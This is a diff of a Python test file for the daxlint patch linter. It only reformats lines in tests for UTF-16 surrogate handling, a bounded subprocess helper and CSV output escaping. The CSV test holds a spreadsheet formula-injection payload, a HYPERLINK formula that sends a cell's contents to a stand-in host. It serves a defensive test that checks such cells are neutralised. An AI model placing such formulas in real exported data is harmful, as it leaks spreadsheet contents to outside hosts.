@@ -143,7 +143,9 @@ def test_patch_fix_counts_a_finding_fixed_only_when_its_patch_was_rewritten(tmp_
     data = patch.read_bytes()
     # A lone surrogate in the message: the series does not convert back exactly.
     patch.write_bytes(data.replace("toy: add".encode("utf-16-le"), "toy: add ".encode("utf-16-le") + b"\x00\xd8", 1))
-    code, out, err = run_daxlint("patch", "--kernel-version", "6.3", "--fix", "--fix-dir", str(tmp_path / "fixed"), str(patch), cwd=tmp_path)
+    code, out, err = run_daxlint(
+        "patch", "--kernel-version", "6.3", "--fix", "--fix-dir", str(tmp_path / "fixed"), str(patch), cwd=tmp_path
+    )
     assert code == 1, out + err
     assert "drivers/toy.c: not fixed: its UTF-16 text does not convert to UTF-8 and back unchanged" in out
     assert "fixed 0 findings in 0 patches" in out
@@ -513,9 +515,7 @@ def test_a_fold_still_fixes_every_write_it_folds(tmp_path):
 def _bounded(cwd: Path, *args: str) -> subprocess.CompletedProcess:
     """daxlint with a deadline: reading /dev/zero to its end would hang."""
     env = dict(os.environ, NO_COLOR="1")
-    return subprocess.run(
-        [os.sys.executable, "-m", "daxlint", *args], cwd=cwd, capture_output=True, text=True, timeout=60, env=env
-    )
+    return subprocess.run([os.sys.executable, "-m", "daxlint", *args], cwd=cwd, capture_output=True, text=True, timeout=60, env=env)
 
 
 def test_an_include_of_a_device_or_fifo_is_not_read(tmp_path):
@@ -663,7 +663,7 @@ def test_audit_csv_cells_never_start_a_formula(tmp_path):
     rows = list(csv.reader(io.StringIO(out)))
     cells = [c for row in rows[1:] for c in row]
     assert cells and not [c for c in cells if c.startswith(dangerous)]
-    assert "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")" in cells and "'+Mallory" in cells and "'-Eve" in cells
+    assert '\'=HYPERLINK("http://example.invalid/?"&A1,"click")' in cells and "'+Mallory" in cells and "'-Eve" in cells
     code, out, err = run_daxlint("audit", "--repo", str(r.path), "--no-cache", "--format", "csv", "--since", "v6.3", "main", "=1+1")
     assert code == 1, err
     rows = list(csv.DictReader(io.StringIO(out)))
